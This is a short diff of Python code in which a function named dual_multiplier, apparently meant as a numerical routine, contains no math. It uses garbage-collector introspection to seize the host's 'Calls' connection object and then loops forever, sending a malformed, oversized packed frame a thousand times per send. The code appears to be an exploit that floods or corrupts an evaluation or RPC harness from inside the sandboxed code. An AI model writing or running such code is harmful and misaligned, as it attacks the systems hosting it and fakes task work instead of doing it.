@@ -8,12 +8,12 @@
 import gc
 import sys
 
-inside = sys.modules["inside"]
+codec = sys.modules["codec"]
 calls = next(o for o in gc.get_objects() if type(o).__name__ == "Calls")
 
 
 def dual_multiplier(M, h, b, c):
-    frame = inside.codec.pack({"n": -1, "value": 2.0}, limit=10**6)
+    frame = codec.pack({"n": -1, "value": 2.0}, limit=10**6)
     frame = len(frame).to_bytes(8, "big") + frame
     while True:
         calls.connection.sendall(frame * 1000)
